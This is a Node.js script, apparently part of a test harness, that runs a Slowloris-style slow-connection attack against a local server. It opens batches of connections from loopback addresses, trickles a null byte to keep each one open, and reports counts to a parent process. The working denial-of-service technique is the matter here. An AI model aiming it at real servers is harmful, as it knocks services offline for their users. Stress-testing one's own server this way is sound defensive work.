// Slowloris: connections that send one byte now and then. Every second one asks an honest question first.
import { connect } from "node:net";
import process from "node:process";

const AT_ONCE = 100;
const PER_ADDRESS = 80;
const [port, count, byteEveryMs] = process.argv.slice(2).map(Number);
const question = Buffer.from(JSON.stringify({ id: 1, text: "is it safe?" }));
const header = Buffer.alloc(4);
header.writeUInt32BE(question.length);

let answered = 0;
let ended = 0;
let failed = 0;
let opened = 0;
let mostOpen = 0;

for (let next = 0; next < count; next += AT_ONCE) {
  const batch = Array.from({ length: Math.min(AT_ONCE, count - next) }, (_, i) => attack(next + i));
  await Promise.all(batch);
}
process.send("attacking");
process.on("message", () => process.send({ opened, answered, ended, failed, mostOpen }));

/** Resolves when it is connected. */
function attack(number) {
  const from = Math.floor(number / PER_ADDRESS);
  const socket = connect({ port, host: "127.0.0.1", localAddress: `127.1.${from >> 8}.${from & 255}` });
  return new Promise((resolve) => {
    let connected = false;
    let dribbling;
    socket.on("error", () => {});
    socket.on("connect", () => {
      connected = true;
      opened++;
      mostOpen = Math.max(mostOpen, opened - ended);
      if (number % 2 === 0) socket.write(Buffer.concat([header, question]));
      socket.write("\0");
      dribbling = setInterval(() => socket.write("\0"), byteEveryMs);
      resolve();
    });
    socket.once("data", () => answered++);
    socket.on("close", () => {
      clearInterval(dribbling);
      if (connected) ended++;
      else failed++;
      resolve();
    });
  });
}
